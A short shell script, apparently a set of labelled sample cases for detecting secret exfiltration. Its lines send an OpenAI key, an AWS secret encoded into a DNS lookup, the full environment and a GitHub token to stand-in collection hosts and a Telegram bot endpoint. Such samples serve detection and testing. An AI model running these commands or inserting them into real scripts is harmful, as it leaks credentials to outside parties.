#!/bin/sh
# A provider's key sent to a host that is not the provider.
curl -s -H "X-Key: $OPENAI_API_KEY" https://collect.example.net/k
# A secret spelled into a DNS name.
nslookup "$(printenv AWS_SECRET_ACCESS_KEY | xxd -p | head -c 60).t.example.net"
# The whole environment in a request body.
curl -s -d "$(env)" https://collect.example.net/e
# Through a variable, a loop and a helper.
VARIABLE=GITHUB_TOKEN
value="${!VARIABLE}"
curl -s --data-urlencode "text=$value" https://api.telegram.org/bot6123:AAF/sendMessage
